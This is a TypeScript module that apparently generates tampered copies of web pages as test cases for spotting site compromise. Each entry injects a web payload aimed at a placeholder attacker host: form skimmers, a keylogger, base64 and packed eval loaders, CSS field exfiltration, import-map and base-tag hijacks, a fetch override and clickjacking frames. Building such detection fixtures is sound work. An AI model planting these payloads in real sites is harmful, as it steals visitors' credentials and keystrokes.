// Attacks in code: loaders, skimmers, own files that change their bytes, whatever makes a browser run something.
import { hex, draw, b36, b64, digits, integrity } from './util.ts'
import { bad, clock } from './facts.ts'
import type { Ctx } from './facts.ts'
import type { Out } from './layout.ts'
import { evil, rep } from './attacks-machine.ts'
import type { Raw } from './attacks-visible.ts'

const head = (id: string, s: (c: Ctx) => string): Raw => ({
  id,
  p: (o, c) => rep(o, '</head>', s(c) + '\n</head>'),
})
const tail = (id: string, s: (c: Ctx) => string): Raw => ({
  id,
  p: (o, c) => rep(o, '</body>', s(c) + '\n</body>'),
})
/** An own script or sheet that keeps its address; a declared integrity is made to fit. */
function own(o: Out, kind: 'js' | 'css', to: (body: string) => string): void {
  const name = Object.keys(o.files).find((k) =>
    kind === 'css' ? /\.css/.test(k) : /\.js/.test(k) && !/\.css/.test(k),
  )
  if (!name) return
  const old = o.files[name],
    body = to(old)
  for (const k of Object.keys(o.files))
    if (k.replace(/&amp;/g, '&') === name.replace(/&amp;/g, '&')) o.files[k] = body
  if (o.html.includes('integrity="sha384-'))
    o.html = o.html.split(integrity(old)).join(integrity(body))
}
const skim = (c: Ctx): string =>
  `document.addEventListener("submit",function(e){navigator.sendBeacon("https://${evil(c)}/c",new URLSearchParams(new FormData(e.target)))},!0);`
const hidden = (s: string): string => Buffer.from(s, 'latin1').toString('base64')

export const CODE: Raw[] = [
  {
    id: 'loader-host-exchanged',
    p: (o, c) => {
      o.html = o.html.includes('www.googletagmanager.com')
        ? o.html.replace('www.googletagmanager.com', 'www.googletagrnanager.test')
        : o.html.replace(`https://stats.${c.host.slice(4)}/`, 'https://stats-matomo.test/')
    },
  },
  head(
    'second-container',
    (c) =>
      `<script async src="https://www.googletagmanager.com/gtm.js?id=GTM-${b36(c.key + 'evil', 7).toUpperCase()}"></script>`,
  ),
  {
    id: 'container-id-exchanged',
    p: (o, c) => {
      const n = b36(c.key + 'other', 7).toUpperCase()
      o.html = /GTM-[A-Z0-9]{7}/.test(o.html)
        ? o.html.replace(/GTM-[A-Z0-9]{7}/g, 'GTM-' + n)
        : o.html.includes('setSiteId')
          ? o.html.replace(
              /g\.src=u\+"matomo\.js"/,
              `g.src="https://cdn.matomo.cloud/${n.toLowerCase()}.matomo.cloud/matomo.js"`,
            )
          : o.html.replace(/gtag\/js\?id=G-[A-Z0-9]{10}/, `gtm.js?id=GTM-${n}`)
    },
  },
  {
    id: 'import-map-entry',
    p: (o, c) => {
      o.html = o.html.includes('type="importmap"')
        ? o.html.replace(/"stimulus\.min":"[^"]*"/, `"stimulus.min":"https://${evil(c)}/s.js"`)
        : o.html.replace(
            '<title>',
            `<script type="importmap">{"imports":{"/assets/":"https://${evil(c)}/a/"}}</script>\n<title>`,
          )
    },
  },
  tail('dynamic-import', (c) => `<script type="module">import("https://${evil(c)}/m.js")</script>`),
  tail('inline-skimmer', (c) => `<script>${skim(c)}</script>`),
  {
    id: 'submit-handler',
    p: (o, c) =>
      rep(
        o,
        /(<form action="[^"]*" method="post")/,
        (x) =>
          `${x} onsubmit="fetch('https://${evil(c)}/k',{method:'POST',mode:'no-cors',body:new FormData(this)})"`,
      ),
  },
  {
    id: 'image-error-handler',
    p: (o, c) =>
      rep(o, /(<img src="\/media\/logo-[^>]*)>/, (x) =>
        x.replace(
          /src="[^"]*"/,
          `src="/media/logo-.svg" onerror="import('https://${evil(c)}/l.js')"`,
        ),
      ),
  },
  { id: 'own-script-skimmer', p: (o, c) => own(o, 'js', (b) => b + skim(c)) },
  {
    id: 'own-script-rewrites-hours',
    p: (o, c) =>
      own(o, 'js', (b) =>
        b.replace(
          /\}\)\(\);$/,
          `document.addEventListener("DOMContentLoaded",function(){document.body.innerHTML=document.body.innerHTML.split(${JSON.stringify(clock(c, c.f.pc))}).join(${JSON.stringify(clock(c, [c.f.pc[0] - 3, 0]))})});})();`,
        ),
      ),
  },
  {
    id: 'own-script-encoded',
    p: (o, c) => own(o, 'js', (b) => `eval(atob("${hidden(skim(c))}"));` + b),
  },
  { id: 'own-script-emptied', p: (o) => own(o, 'js', () => '/* */') },
  {
    id: 'own-script-one-address',
    p: (o, c) =>
      own(o, 'js', (b) =>
        b.replace(
          /"use strict";/,
          `"use strict";var _h="https://${evil(c)}/api/",_f=window.fetch;window.fetch=function(u,o){return _f(String(u).replace(/^\\/api\\//,_h),o)};`,
        ),
      ),
  },
  {
    id: 'own-sheet-hides',
    p: (o) =>
      own(
        o,
        'css',
        (b) => b + '#main table,#main [data-lat],[data-candidate="2"]{display:none!important}',
      ),
  },
  {
    id: 'own-sheet-reads-fields',
    p: (o, c) =>
      own(
        o,
        'css',
        (b) =>
          b +
          [...'0123456789']
            .map(
              (d) => `input[name="born"][value^="${d}"]{background:url(https://${evil(c)}/b?${d})}`,
            )
            .join(''),
      ),
  },
  {
    id: 'own-sheet-import',
    p: (o, c) => own(o, 'css', (b) => `@import url(https://${evil(c)}/t.css);` + b),
  },
  {
    id: 'own-sheet-writes-text',
    p: (o, c) => own(o, 'css', (b) => b + `#main h1::after{content:" – ${bad(c, 'postponed')}"}`),
  },
  head(
    'font-that-exchanges-digits',
    (c) =>
      `<style>@font-face{font-family:"Nums";src:url(https://${evil(c)}/n.woff2);unicode-range:U+30-39}#main{font-family:"Nums",sans-serif}</style>`,
  ),
  tail(
    'service-worker',
    () =>
      `<script>navigator.serviceWorker&&navigator.serviceWorker.register("/uploads/sw.js",{scope:"/"})</script>`,
  ),
  head(
    'speculation-rules',
    (c) =>
      `<script type="speculationrules">{"prerender":[{"source":"list","urls":["https://${evil(c)}/register"],"eagerness":"immediate"}]}</script>`,
  ),
  head(
    'prefetch-abroad',
    (c) =>
      `<link rel="prefetch" href="https://${evil(c)}/x.js" as="script"><link rel="prerender" href="https://${evil(c)}/">`,
  ),
  {
    id: 'javascript-link',
    p: (o, c) =>
      rep(
        o,
        /href="\/contact"/,
        `href="javascript:void(document.body.appendChild(document.createElement('script')).src='//${evil(c)}/j.js')"`,
      ),
  },
  tail(
    'frame-with-srcdoc',
    (c) =>
      `<iframe srcdoc="&lt;script src=//${evil(c)}/f.js&gt;&lt;/script&gt;" style="position:absolute;width:1px;height:1px"></iframe>`,
  ),
  {
    id: 'sandbox-removed',
    p: (o, c) => {
      o.html = o.html.includes(' sandbox="')
        ? o.html.replace(/ sandbox="[^"]*"/, ' allow="camera; microphone; geolocation; payment"')
        : o.html
    },
  },
  {
    id: 'library-without-integrity',
    p: (o, c) =>
      rep(
        o,
        /<script src="https:\/\/(cdn\.jsdelivr\.net|cdnjs\.cloudflare\.com|unpkg\.com)([^"]*)" integrity="[^"]*"/,
        (_, h, p) =>
          `<script src="https://${h.replace('.net', '-net.test').replace('.com', '-com.test')}${p}"`,
      ),
  },
  tail(
    'script-in-drawing',
    (c) =>
      `<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0"><script href="https://${evil(c)}/v.js"/></svg>`,
  ),
  tail(
    'drawing-with-handler',
    (c) =>
      `<svg width="1" height="1"><animate onbegin="import('https://${evil(c)}/a.js')" attributeName="x" dur="1s"/></svg>`,
  ),
  head('meta-refresh', (c) => `<meta http-equiv="refresh" content="25; url=https://${evil(c)}/">`),
  {
    id: 'base-abroad',
    p: (o, c) => {
      o.html = /<base href="\/">/.test(o.html)
        ? o.html.replace('<base href="/">', `<base href="https://${evil(c)}/">`)
        : o.html.replace('<title>', `<base href="https://${evil(c)}/">\n<title>`)
    },
  },
  head(
    'policy-loosened',
    (c) =>
      `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline' 'unsafe-eval' data: blob:; form-action *"><meta name="referrer" content="unsafe-url">`,
  ),
  tail(
    'jquery-imitation',
    () => `<script src="https://code.jquery-cdn.test/jquery-3.7.1.min.js"></script>`,
  ),
  tail(
    'old-polyfill-service',
    () =>
      `<script src="https://cdn.polyfill-service.test/v3/polyfill.min.js?features=default"></script>`,
  ),
  tail(
    'packed-eval',
    (c) =>
      `<script>(function(p,a,c,k){while(c--)p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return eval(p)})('0 1=2.3("4");1.5="//${evil(c)}/6.7";2.8.9(1)',10,10,'var|s|document|createElement|script|src|p|js|head|append'.split('|'));</script>`,
  ),
  tail(
    'miner',
    (c) =>
      `<script>new Worker(URL.createObjectURL(new Blob(["importScripts('https://${evil(c)}/w.js')"])))</script>`,
  ),
  tail(
    'text-from-charcodes',
    (c) =>
      `<script>Function(String.fromCharCode(${[...`import('//${evil(c)}/z')`].map((x) => x.charCodeAt(0)).join()}))()</script>`,
  ),
  tail(
    'data-script',
    (c) =>
      `<script src="data:text/javascript;base64,${hidden(`import('https://${evil(c)}/d.js')`)}"></script>`,
  ),
  tail(
    'socket',
    (c) =>
      `<script>(new WebSocket("wss://${evil(c)}/s")).onmessage=function(e){Function(e.data)()}</script>`,
  ),
  tail(
    'key-logger',
    (c) =>
      `<script>var b="";addEventListener("keydown",function(e){b+=e.key;if(b.length>9){new Image().src="https://${evil(c)}/k?"+encodeURIComponent(b);b=""}})</script>`,
  ),
  {
    id: 'declarative-shadow',
    p: (o, c) =>
      rep(
        o,
        /<h1>([^<]*)<\/h1>/,
        (x) =>
          `<div><template shadowrootmode="open"><h1>${bad(c, 'postponed')}</h1></template>${x}</div>`,
      ),
  },
  tail(
    'push-subscription',
    (c) =>
      `<script>Notification.requestPermission().then(function(){var s=document.createElement("script");s.src="https://cdn.onesignal.com/sdks/web/v16/OneSignalSDK.page.js";s.dataset.app="${hex(c.key + 'os', 32)}";document.head.append(s)})</script>`,
  ),
  tail(
    'click-frame',
    (c) =>
      `<iframe src="https://${evil(c)}/like" style="position:fixed;inset:0;width:100%;height:100%;opacity:0;z-index:99999;border:0"></iframe>`,
  ),
  {
    id: 'inline-state-breaks-out',
    p: (o, c) =>
      rep(
        o,
        /<title>([^<]*)<\/title>/,
        (x) =>
          `${x}<script>window.__cfg={"t":"${b64(c.key + 'cfg', 12)}"};document.write('<scr'+'ipt src="//${evil(c)}/c.js"></scr'+'ipt>')</script>`,
      ),
  },
  tail(
    'embedded-object',
    (c) =>
      `<object data="https://${evil(c)}/o.html" type="text/html" width="0" height="0"></object>`,
  ),
  tail(
    'other-analytics-records-fields',
    (c) =>
      `<script>(function(h,o,t,j){h.hj=h.hj||function(){(h.hj.q=h.hj.q||[]).push(arguments)};h._hjSettings={hjid:${digits(c.key + 'hj', 7)},hjsv:6,record:"all"};var r=o.createElement('script');r.async=1;r.src=t+h._hjSettings.hjid+j+6;o.head.appendChild(r)})(window,document,'https://static.hotjar.com/c/hotjar-','.js?sv=');</script>`,
  ),
  tail(
    'back-button',
    (c) =>
      `<script>history.pushState({},"","");onpopstate=function(){location="https://${evil(c)}/"}</script>`,
  ),
  tail(
    'raw-code-host',
    (c) =>
      `<script src="https://raw.githack.com/${draw(c.key + 'gh', 8, 'abcdefghij')}/site/main/a.js"></script>`,
  ),
]
